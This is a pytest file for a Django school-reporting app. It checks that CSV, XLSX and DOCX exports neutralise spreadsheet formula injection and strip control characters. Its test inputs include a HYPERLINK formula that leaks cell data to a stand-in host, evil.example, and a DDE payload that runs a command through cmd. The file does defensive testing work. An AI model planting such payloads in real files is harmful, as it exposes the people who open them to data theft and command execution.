"""Formula injection and control characters: every exporter's text goes through
`exports.cells`; the produced files are read back (openpyxl, csv, python-docx, the raw XML)."""

import csv
import io
import zipfile

import pytest
from docx import Document
from openpyxl import load_workbook

from prongsai.exports.cells import clean_text, csv_cell, looks_like_formula
from prongsai.measures.document import Cell, Measure, Numbering, ReportDocument, Row
from prongsai.measures.report_docx import report_docx
from prongsai.measures.report_xlsx import INFO_SHEET, MEASURES_SHEET, report_xlsx

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"คลิก")'
DDE = "=cmd|' /C calc'!A0"


def _document(*texts: str) -> ReportDocument:
    rows = [
        Row(
            steps=Cell([text], Numbering.NONE),
            responsible=text,
            summary=Cell([text], Numbering.NONE),
            outcome=Cell([text], Numbering.NONE),
            due=text,
        )
        for text in texts
    ]
    return ReportDocument(
        cover_lines=[texts[0]],
        title=texts[0],
        period_line="ปีงบประมาณ ๒๕๖๖",
        introduction=texts[-1],
        measures=[Measure(number=1, name=texts[0], heading_tail="", rows=rows)],
    )


def _sheet_xml(content: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return "".join(
            archive.read(name).decode("utf-8")
            for name in archive.namelist()
            if name.startswith("xl/worksheets/")
        )


@pytest.mark.parametrize(
    "text",
    [HYPERLINK, DDE, "+1+1", "-2+3", "@SUM(1)", "\t=1", "\r=1", "\uff1dSUM(1)", "＠x"],
)
def test_neutralised_starts(text):
    assert looks_like_formula(text)
    assert csv_cell(text) == "'" + clean_text(text)


def test_plain_text_and_numbers_are_unchanged():
    assert csv_cell("ครูสมชาย") == "ครูสมชาย"
    assert csv_cell(-5) == -5
    assert csv_cell(None) is None


def test_report_xlsx_stores_formulas_as_text():
    content = report_xlsx(_document(HYPERLINK, DDE))
    xml = _sheet_xml(content)
    assert "<f>" not in xml
    assert "<f " not in xml
    workbook = load_workbook(io.BytesIO(content))
    sheet = workbook[MEASURES_SHEET]
    values = [cell for row in sheet.iter_rows(min_row=2) for cell in row]
    texts = [cell for cell in values if isinstance(cell.value, str) and cell.value.startswith("=")]
    assert {cell.value for cell in texts} >= {HYPERLINK, DDE}  # the text reads unchanged
    assert all(cell.data_type == "s" for cell in texts)
    assert all(cell.quotePrefix for cell in texts)
    info = [row[1] for row in workbook[INFO_SHEET].iter_rows(values_only=True)]
    assert HYPERLINK in info


def test_control_characters_do_not_break_xlsx_and_docx():
    text = "ขั้นตอน\x0bที่\x1bหนึ่ง\x00"
    workbook = load_workbook(io.BytesIO(report_xlsx(_document(text))))
    assert workbook[MEASURES_SHEET]["D2"].value == "ขั้นตอนที่หนึ่ง"
    document = Document(io.BytesIO(report_docx(_document(text))))
    body = "\n".join(p.text for p in document.paragraphs)
    cells = "\n".join(c.text for t in document.tables for r in t.rows for c in r.cells)
    assert "ขั้นตอนที่หนึ่ง" in body + cells
    assert "\x0b" not in body + cells
    assert "\x1b" not in body + cells


# --- the services dashboard and the complaint statistics -------------------------------------


@pytest.mark.django_db
def test_dashboard_csv_and_xlsx_neutralise_a_service_name(client, school):
    from django.urls import reverse

    from tests.services.test_statistics import YEAR, at, make_request, make_service

    service = make_service(school, HYPERLINK, promised_days=1, order=1)
    make_request(service, at(2023, 10, 2), hours=4, rating=5)
    base = reverse("services:dashboard_file", kwargs={"agency": school.slug, "fmt": "csv"})
    response = client.get(f"{base}?year={YEAR}")
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    names = [row[1] for row in rows if row[0] == "งานบริการ"]
    assert names == ["'" + HYPERLINK]

    base = reverse("services:dashboard_file", kwargs={"agency": school.slug, "fmt": "xlsx"})
    content = client.get(f"{base}?year={YEAR}").content
    assert "<f>" not in _sheet_xml(content)
    sheet = load_workbook(io.BytesIO(content))["งานบริการ"]
    assert sheet["A2"].value == HYPERLINK
    assert sheet["A2"].data_type == "s"


@pytest.mark.django_db
def test_complaint_statistics_xlsx_neutralises_the_agency_name(client, school):
    from django.urls import reverse

    school.name_th = DDE + "\x0b"
    school.save()
    url = reverse(
        "complaints:statistics_file", kwargs={"agency": school.slug, "year": 2566, "fmt": "xlsx"}
    )
    response = client.get(url)
    assert response.status_code == 200
    assert "<f>" not in _sheet_xml(response.content)
    summary = load_workbook(io.BytesIO(response.content))["สรุป"]
    assert summary["B2"].value == DDE
    assert summary["B2"].data_type == "s"


@pytest.mark.django_db
def test_people_template_neutralises_a_unit_name(client, school):
    from django.urls import reverse

    from prongsai.agencies.models import Unit
    from prongsai.agencies.roles import Role
    from tests.conftest import login
    from tests.factories import member

    Unit.objects.filter(agency=school).delete()
    Unit.objects.create(agency=school, name_th=HYPERLINK)
    login(client, member(school, Role.DIRECTOR))
    url = reverse("agencies:staff_people_import_template", kwargs={"agency": school.slug})
    rows = list(csv.reader(io.StringIO(client.get(url).content.decode("utf-8-sig"))))
    assert "'" + HYPERLINK in rows[1]
